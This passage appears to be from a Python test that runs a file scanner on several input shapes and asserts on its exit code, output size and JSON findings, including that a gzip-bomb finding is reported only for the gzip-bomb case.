    assert proc.returncode in (0, 1), (shape, proc.stderr[-2000:])
    assert b"Traceback" not in proc.stderr
    assert len(proc.stdout) < 2_000_000, (shape, len(proc.stdout))
    codes = {f["code"] for f in json.loads(proc.stdout)["files"][0]["findings"]}
    assert "input.too-large" not in codes
    assert ("input.gzip-bomb" in codes) == (shape == "gzip-bomb")
